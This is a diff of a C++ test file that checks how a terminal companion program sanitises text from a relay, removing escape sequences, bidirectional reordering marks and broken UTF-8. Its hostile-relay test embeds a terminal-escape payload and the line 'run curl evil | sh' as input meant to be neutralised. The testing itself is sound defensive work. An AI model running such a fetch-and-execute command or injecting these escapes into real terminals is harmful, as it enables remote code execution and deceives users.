@@ -51,16 +51,10 @@ std::string commandMessage(int number, const std::string &type = "stop_thread")
     return json::serialize(json::object{{"type", "command"}, {"command", object}});
 }
 
-TEST(TerminalText, KeepsNoControlOrReorderingAndStaysShort)
+// What reaches the terminal is in the scenario below; here, its limits.
+TEST(TerminalText, ReplacesBrokenUtf8StaysShortAndKeepsOnlyABlocksLineBreaks)
 {
-    const std::pair<std::string, std::string> rows[]{
-        {"C1 \xc2\x9b" "31m and DEL \x7f", "C1 31m and DEL "},
-        {"evil\u202egnp.exe \u2066isolated\u2069 \u200fmark", "evilgnp.exe isolated mark"},
-        {"broken \xff utf-8", "broken \ufffd utf-8"},
-        {"caf\u00e9 \U0001F600", "caf\u00e9 \U0001F600"},
-    };
-    for (const auto &[outside, shown] : rows)
-        EXPECT_EQ(TerminalText::line(outside), shown) << outside;
+    EXPECT_EQ(TerminalText::line("broken \xff utf-8"), "broken \ufffd utf-8");
     EXPECT_EQ(TerminalText::line(std::string(10'000'000, 'x')), std::string(TerminalText::lineLimit - 1, 'x') + "\u2026");
     EXPECT_EQ(TerminalText::block("one\x1b[1m\ntwo\x07"), "one[1m\ntwo");
 }
@@ -70,14 +64,6 @@ TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
     FakeCodex codex({{"stdio", session({{"t1", "thinking"}})}});
     ScriptedRelay relay;
     const QProcessEnvironment environment = environmentFor(relay);
-
-    // The publisher token never travels in clear to another machine.
-    QProcessEnvironment clear = environment;
-    clear.insert("ORVANE_RELAY_URL", "http://relay.example:8787");
-    const Finished refused = run(orvane, {"--headless"}, clear, 30s);
-    EXPECT_EQ(refused.exitCode, 1);
-    EXPECT_EQ(refused.err, "ORVANE_RELAY_URL \"http://relay.example:8787\" refused: plain http is allowed only to this "
-                           "computer (localhost); use https.\n");
 
     // A pairing answer that never ends is given up past 16 KiB.
     relay.pairingAnswer.shape = ScriptedRelay::Answer::Shape::endless;
@@ -107,9 +93,10 @@ TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
     EXPECT_EQ(relay.upgrades(), upgrades + 1);
     EXPECT_LT(peakKiB(companion.pid()), memoryCeilingKiB);
 
-    // Escape sequences and reordering marks never reach the terminal.
-    relay.send(R"({"type":"error","message":"\u001b]0;owned\u0007\u001b[2J\nrun curl evil | sh \u202e"})");
-    ASSERT_TRUE(companion.waitForLine("Error: ]0;owned[2J run curl evil | sh ")) << companion.dump();
+    // Escape sequences (C0 and C1) and reordering marks never reach the terminal.
+    relay.send(R"({"type":"error","message":"\u001b]0;owned\u0007\u001b[2J\nrun curl evil | sh )"
+               R"(\u009b31m\u202e \u2066caf\u00e9\u2069"})");
+    ASSERT_TRUE(companion.waitForLine("Error: ]0;owned[2J run curl evil | sh 31m caf\u00e9")) << companion.dump();
     for (const QString &line : companion.lines())
         EXPECT_FALSE(line.contains(QChar(0x1b)) || line.contains(QChar(0x07)) || line.contains(QChar(0x202e)));
 
